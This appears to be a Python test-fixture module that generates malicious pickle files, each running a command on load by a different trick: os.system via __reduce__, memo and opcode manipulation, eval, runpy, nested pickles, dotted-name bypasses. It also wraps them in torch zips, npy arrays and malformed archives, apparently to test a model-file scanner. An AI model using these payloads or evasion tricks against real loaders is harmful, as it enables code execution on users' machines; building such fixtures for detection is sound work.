"""Pickles that run a command when they are loaded, each by a trick of its own. `command` makes a canary file; nothing here loads them."""

import gzip
import io
import os
import pickle
import struct
import tarfile
import zipfile


class Evil:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def text(value):
    """SHORT_BINUNICODE"""
    encoded = value.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def call(module, name, *arguments):
    """Protocol 4: fetches by STACK_GLOBAL and calls with texts or pieces of pickle."""
    pieces = b"".join(text(one) if isinstance(one, str) else one for one in arguments)
    return text(module) + text(name) + b"\x93(" + pieces + b"tR"


def pickled(piece):
    return b"\x80\x04" + piece + b"."


def tricks(command):
    """name -> (bytes, imports of which at least one must be named, whether plain pickle.load runs the command)"""
    line = command.encode()
    evil = Evil(command)
    found = {}
    for protocol in range(6):
        found[f"reduce, protocol {protocol}"] = (pickle.dumps(evil, protocol), ["posix.system"], True)
    found["names from the memo"] = (
        b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x94" + b"00" + b"h\x00h\x01\x93" + text(command) + b"\x85R.",
        ["os.system"],
        True,
    )
    found["names from a memo of wild numbers"] = (
        b"\x80\x04" + text("os") + b"r\xff\xff\xff\x00" + text("system") + b"\x94" + b"00" + b"j\xff\xff\xff\x00h\x01\x93" + text(command) + b"\x85R.",
        ["os.system"],
        True,
    )
    found["a name that is made while loading"] = (
        pickled(call("builtins", "str", b"C\x02os", "ascii") + text("system") + b"\x93" + text(command) + b"\x85R"),
        ["?.system (a name made while loading)"],
        True,
    )
    found["INST"] = (b"(S'" + line + b"'\nios\nsystem\n.", ["os.system"], True)
    found["OBJ"] = (b"(cos\nsystem\nS'" + line + b"'\no.", ["os.system"], True)
    found["GLOBAL with escapes in its argument"] = (b"cos\nsystem\n(S'" + b"".join(b"\\x%02x" % c for c in line) + b"'\ntR.", ["os.system"], True)
    found["NEWOBJ_EX"] = (pickled(text("subprocess") + text("Popen") + b"\x93" + text(command) + b"\x85}" + text("shell") + b"\x88s\x92"), ["subprocess.Popen"], None)
    found["breaks after it ran"] = (b"cos\nsystem\n(S'" + line + b"'\ntRq\x00\xff\xff", ["os.system"], True)
    found["is cut before STOP"] = (pickle.dumps(evil, 2)[:-1], ["posix.system"], True)
    found["an unknown protocol after it ran"] = (b"cos\nsystem\n(S'" + line + b"'\ntR\x80\x63.", ["os.system"], True)
    found["the second pickle of a stream"] = (pickle.dumps([1, 2]) + pickle.dumps(evil, 2), ["posix.system"], None)
    found["bytes behind it"] = (pickle.dumps(evil, 4) + b"\0" * 100 + b"rubbish", ["posix.system"], True)
    found["a pickle in a pickle"] = (pickled(call("pickle", "loads", b"B" + struct.pack("<I", len(pickle.dumps(evil, 4))) + pickle.dumps(evil, 4))), ["pickle.loads"], True)
    found["a pickle in a text of protocol 0"] = (b"cpickle\nloads\n(" + pickle.dumps(pickle.dumps(evil, 0), 0)[:-1] + b"tR.", ["pickle.loads"], None)
    found["getattr"] = (pickled(call("builtins", "getattr", call("builtins", "__import__", "os"), "system") + text(command) + b"\x85R"), ["builtins.getattr", "builtins.__import__"], True)
    found["a dotted name through a harmless module"] = (pickled(call("shutil", "os.system", command)), ["shutil.os.system"], True)
    found["a dotted name through a known module"] = (pickled(call("joblib.numpy_pickle", "os.system", command)), ["joblib.numpy_pickle.os.system"], None)
    found["a memo's number with an underscore"] = (b"\x80\x02Vx\np1_0\n0g1_0\n0cos\nsystem\n(V" + line + b"\ntR.", ["os.system"], True)
    found["operator.attrgetter"] = (pickled(call("operator", "attrgetter", "system") + call("builtins", "__import__", "os") + b"\x85R" + text(command) + b"\x85R"), ["operator.attrgetter"], True)
    found["operator.methodcaller"] = (pickled(call("operator", "methodcaller", "system", command) + call("builtins", "__import__", "os") + b"\x85R"), ["operator.methodcaller"], True)
    found["functools.partial"] = (pickled(call("functools", "partial", text("os") + text("system") + b"\x93", command) + b")R"), ["functools.partial", "os.system"], True)
    found["map and list"] = (pickled(call("builtins", "list", call("builtins", "map", text("os") + text("system") + b"\x93", b"](" + text(command) + b"e"))), ["os.system"], True)
    found["eval"] = (pickled(call("builtins", "eval", f"__import__('os').system({command!r})")), ["builtins.eval"], True)
    found["exec under its old name"] = (b"c__builtin__\nexec\n(S\"__import__('os').system('" + line + b"')\"\ntR.", ["__builtin__.exec"], None)
    found["importlib"] = (pickled(call("importlib", "import_module", "this")), ["importlib.import_module"], None)
    found["runpy"] = (pickled(call("runpy", "_run_code", f"import os; os.system({command!r})", b"}")), ["runpy._run_code"], True)
    found["timeit"] = (pickled(call("timeit", "timeit", f"__import__('os').system({command!r})", "pass")), ["timeit.timeit"], None)
    found["pip.main"] = (pickled(call("pip", "main", b"](" + text("--version") + b"e")), ["pip.main"], None)
    found["numpy.load"] = (pickled(call("numpy", "load", "other.npy", b"N\x88")), ["numpy.load"], None)
    found["numpy's test helper"] = (pickled(call("numpy.testing._private.utils", "runstring", f"import os; os.system({command!r})", b"}")), ["numpy.testing._private.utils.runstring"], None)
    found["numpy's fetcher by name"] = (pickled(call("numpy._core", "_ufunc_reconstruct", "os", "system") + text(command) + b"\x85R"), ["numpy._core._ufunc_reconstruct"], None)
    found["a distribution of scipy"] = (pickled(call("scipy.stats._distn_infrastructure", "rv_frozen")), ["scipy.stats._distn_infrastructure.rv_frozen"], None)
    found["torch.hub"] = (pickled(call("torch.hub", "load", "owner/name", "model")), ["torch.hub.load"], None)
    found["torch's loader in a plain pickle"] = (pickled(call("torch.storage", "_load_from_bytes", b"C\x01.")), ["torch.storage._load_from_bytes"], None)
    found["ctypes"] = (pickled(call("ctypes", "CDLL", "libc.so.6")), ["ctypes.CDLL"], None)
    found["an extension's number"] = (b"\x80\x02\x82\x05.", ["copyreg.extension 5"], None)
    found["a wide extension's number"] = (b"\x80\x02\x84\x05\x01\x00\x00(tR.", ["copyreg.extension 261"], None)
    found["a frame that lies about its length"] = (b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + call("os", "system", command) + b".", ["os.system"], None)
    return found


def as_npy(pickle_bytes, head=b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"):
    head += b" " * (117 - len(head)) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + pickle_bytes


def as_zip(entries, method=zipfile.ZIP_STORED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return file.getvalue()


def as_tar(entries, mode="w"):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode=mode) as archive:
        for name, content in entries.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return file.getvalue()


def altered(content, old, new):
    assert old in content
    return content.replace(old, new)


def wrapped(command):
    """name -> a harmful pickle in something else"""
    evil = pickle.dumps(Evil(command), 4)
    torch = as_zip({"archive/data.pkl": evil, "archive/version": "3\n"})
    at = torch.index(b"PK\x01\x02")
    return {
        "torch zip": torch,
        "torch zip, deflated": as_zip({"archive/data.pkl": evil, "archive/version": "3\n"}, zipfile.ZIP_DEFLATED),
        "torch zip with a wrong sum": torch[: at + 16] + b"\0\0\0\0" + torch[at + 20 :],
        "torch zip marked as encrypted": torch[: at + 8] + b"\x01\x00" + torch[at + 10 :],
        "torch zip behind other bytes": b"#!/bin/sh\n" + torch,
        "torch zip before a second end": torch[:-2] + struct.pack("<H", 22) + b"PK\5\6" + torch[-18:-2] + b"\xff\xff",
        "torch zip with a locator that leads nowhere": torch[:-22] + b"PK\6\7" + b"\0" * 16 + torch[-22:],
        "torch zip that says it is H2O's": as_zip({"model.ini": "[info]\n", "archive/data.pkl": evil}),
        "torch zip whose entry ends like a folder": altered(as_zip({"archive/data.pkl_": evil}), b"archive/data.pkl_", b"archive/data.pkl/"),
        "torch zip with two names for one entry": altered(torch, b"\x00\x00archive/data.pkl", b"\x00\x00archive/data.txt"),
        "a zip whose pickle is called a text": as_zip({"notes.txt": evil}),
        "a pickle before a zip": evil + as_zip({"readme.txt": "nothing"}),
        "tar in zip": as_zip({"inner.tar": as_tar({"model.pkl": evil})}),
        "tar in gzip": as_tar({"model.pkl": evil}, "w:gz"),
        "tar in xz": as_tar({"model.pkl": evil}, "w:xz"),
        "zip in gzip in zip": as_zip({"a": gzip.compress(as_zip({"b": evil}))}),
        "array of objects": as_npy(evil),
        "array of objects in another spelling": as_npy(evil, b"{'descr':'object', 'fortran_order': False, 'shape': (1,), }"),
        "array of objects that says its type twice": as_npy(evil, b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}"),
        "array of objects in a zip": as_zip({"a.npy": as_npy(evil)}, zipfile.ZIP_DEFLATED),
        "bzip2 entry": as_zip({"model.pkl": evil}, zipfile.ZIP_BZIP2),
        "LZMA entry": as_zip({"model.pkl": evil}, zipfile.ZIP_LZMA),
    }
